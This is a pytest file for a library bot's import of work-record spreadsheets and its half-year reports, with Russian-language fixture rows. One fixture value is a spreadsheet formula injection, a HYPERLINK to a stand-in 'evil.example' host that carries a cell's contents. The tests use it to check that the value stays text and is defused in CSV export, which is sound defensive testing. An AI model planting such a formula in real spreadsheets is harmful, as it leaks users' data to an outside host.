"""Last season's hand-kept work sheets (#25): `libbot work import` of the example file puts
every row on its sheet of the workbook, tells the bad rows by their numbers and reasons and
loses nothing else; a file loaded again adds nothing twice; an XLSX with a title row, its
columns in another order, other headings' spellings, extra columns and a formula is read as
text; `--period 2026-H1` reports the first half-year.
"""

from __future__ import annotations

from datetime import UTC, datetime
from io import BytesIO
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from bot.cli import main
from bot.kernel.config import Config
from storage.db import Database
from storage.reports import document, periods
from storage.reports.offline import sheet_for
from storage.work import records
from storage.work.files import WorkFileError, import_file, read_file

ROOT = Path(__file__).resolve().parents[1]
EXAMPLE = ROOT / "work.example.csv"
NOW = datetime(2026, 12, 8, 9, tzinfo=UTC)
BAD = [
    "строка 10: «Дата» не читается: 'весной' (нужно 12.11.2025 или 12.11.2025 14:30)",
    "строка 15: нет «Дата»",
    "строка 16: «Количество» не число: 'много'",
]


def workbook_rows(data: bytes) -> dict[str, list[list[object]]]:
    book = load_workbook(BytesIO(data))
    return {
        name: [[c.value for c in row] for row in book[name].iter_rows(min_row=3)]
        for name in book.sheetnames
    }


async def test_every_row_of_the_example_is_on_its_sheet(database: Database, config: Config) -> None:
    zone = config.library.zone
    done = await import_file(database, EXAMPLE, config.work, zone=zone, now=NOW)
    assert [str(bad) for bad in done.bad] == BAD
    assert len(done.added) == 14  # 17 rows, 3 bad
    again = await import_file(database, EXAMPLE, config.work, zone=zone, now=NOW)
    assert (len(again.added), len(again.repeated)) == (0, 14)  # nothing twice

    year = periods.parse("2026", zone)
    report = await document.prepare(database, config, year, now=NOW)
    sheets = workbook_rows(document.to_xlsx(report))
    for draft in done.added:
        sheet = sheet_for(draft.kind, config.work).value
        found = [r for r in sheets[sheet] if r[0] == draft.content and r[6] == draft.kind]
        assert len(found) == 1, (sheet, draft.content)
        assert (found[0][3] or "") == draft.customer  # an empty cell reads as None
    consultations = [r[6] for r in sheets["Консультации"]]
    assert consultations.count("Консультация по телефону") == 2
    assert "Помощь с Госуслугами" in consultations
    assert [r[6] for r in sheets["Другая работа РЦ"]] == [
        "Письмо поддержки",
        "Совместная подготовка проектной заявки",
        "Работа с добровольцами",
        "Другая работа",  # a row with no kind: the default
    ]
    assert [r[6] for r in sheets["Публичные мероприятия"]] == [
        "Встреча НКО",
        "Мероприятие партнёров в библиотеке",
    ]
    # A cell that looked like a formula is text in the workbook and defused in CSV.
    hostile = '=HYPERLINK("http://evil.example/?x="&A1;"Консультация")'
    assert hostile in [r[0] for r in sheets["Консультации"]]
    csv = document.to_csv_files(report)["Консультации.csv"].decode("utf-8-sig")
    assert "'=HYPERLINK" in csv
    summary = {r[0]: r[1] for r in sheets["Показатели"]}
    assert summary["Консультаций дано"] == sum(int(r[7]) for r in sheets["Консультации"])
    # The meeting the centre held is an event; a partner's lecture is on the sheet, theirs.
    assert summary["Проведено мероприятий — всего"] == 1
    assert summary["Участников мероприятий"] == 18


def test_an_xlsx_with_its_own_layout(tmp_path: Path, config: Config) -> None:
    book = Workbook()
    ws = book.active
    assert ws is not None
    ws.title = "Письмо поддержки"  # no «Вид работы» column: the sheet names the kind
    ws.append(["Учёт работы РЦ за 2025 год"])
    ws.append([])
    ws.append(["Примечание", "Дата работы", "Заказчик (организация)", "Содержание работы (кратко)",
               "Исполнитель", "Ответственный", "Подпись"])  # fmt: skip
    ws.append(
        [
            "",
            datetime(2025, 3, 4, tzinfo=UTC).replace(tzinfo=None),  # a date cell
            "ТОС «Северный»",
            "Письмо для конкурса",
            "",
            "",
            "x",
        ]
    )
    ws.append(["", "05.03.2025 14:30", "Фонд", "=1+2", "", "", ""])
    ws.append(["", "не помню", "Фонд", "Письмо", "", "", ""])
    ws.append([None] * 7)  # an empty row is not a bad one
    ws.append(["", "2025-03-06", "", "", "Иванова", "", ""])
    other = book.create_sheet("Справка")
    other.append(["Просто таблица"])
    path = tmp_path / "season.xlsx"
    book.save(path)

    found = read_file(path, config.work, zone=config.library.zone, now=NOW)
    assert [(where, d.kind, d.content, d.all_day) for where, d in found.drafts] == [
        ("лист «Письмо поддержки», строка 4", "Письмо поддержки", "Письмо для конкурса", True),
        ("лист «Письмо поддержки», строка 5", "Письмо поддержки", "=1+2", False),
    ]
    assert [str(b) for b in found.bad] == [
        "лист «Письмо поддержки», строка 6: «Дата» не читается: 'не помню' "
        "(нужно 12.11.2025 или 12.11.2025 14:30)",
        "лист «Письмо поддержки», строка 8: нет «Содержание работы»",
    ]
    kinded = read_file(path, config.work, zone=config.library.zone, now=NOW, kind="Другая работа")
    assert {d.kind for _, d in kinded.drafts} == {"Другая работа"}

    nothing = tmp_path / "other.csv"
    nothing.write_text("Название;Автор\nКнига;Автор\n", encoding="utf-8")
    with pytest.raises(WorkFileError, match="no columns «Содержание работы» and «Дата»"):
        read_file(nothing, config.work, zone=config.library.zone, now=NOW)


@pytest.fixture
def config_file(tmp_path: Path) -> Path:
    config = tmp_path / "config.toml"
    config.write_text("[library]\nname = 'Тест'\ntimezone = 'Europe/Moscow'\n", encoding="utf-8")
    assert main(["db", "upgrade", "--config", str(config)]) == 0
    return config


def test_libbot_work_import_and_the_half_year(
    config_file: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    config = ["--config", str(config_file)]
    assert main(["work", "import", str(EXAMPLE), *config, "--dry-run"]) == 0
    assert "проверка — можно записать 14" in capsys.readouterr().out
    assert main(["work", "import", str(EXAMPLE), *config]) == 0
    out = capsys.readouterr().out.splitlines()
    assert out[0] == "work.example.csv: записано 14, уже были 0, с ошибками 3."
    assert "  «Консультации»: 6" in out
    assert "  «Другая работа РЦ»: 4" in out
    assert out[-3:] == [f"  {line}" for line in BAD]
    assert main(["work", "import", str(tmp_path / "nope.csv"), *config]) == 2

    half = tmp_path / "h1.xlsx"
    assert main(["report", "--period", "2026-H1", "--out", str(half), *config]) == 0
    assert "1 полугодие 2026 г." in capsys.readouterr().out
    book = load_workbook(half)
    assert "1 полугодие 2026 г." in str(book["Консультации"]["A1"].value)
    dates = [
        row[1].value for name in book.sheetnames[1:-2] for row in book[name].iter_rows(min_row=3)
    ]
    assert dates
    first, after = datetime(2026, 1, 1, tzinfo=UTC), datetime(2026, 7, 1, tzinfo=UTC)
    assert all(first <= d.replace(tzinfo=UTC) < after for d in dates)
    assert main(["report", "--period", "2026-H3", "--out", str(half), *config]) == 2
    assert "half-year like 2026-H1" in capsys.readouterr().err


async def test_records_between_dates_leave_deleted_ones_out(database: Database) -> None:
    at = datetime(2026, 5, 1, 10, tzinfo=UTC)
    kept = await records.add(
        database, records.WorkDraft("Письмо поддержки", "Письмо", at), author_id=None, author="x"
    )
    assert [i.id for i in await records.between(database, at, at)] == [kept.id]
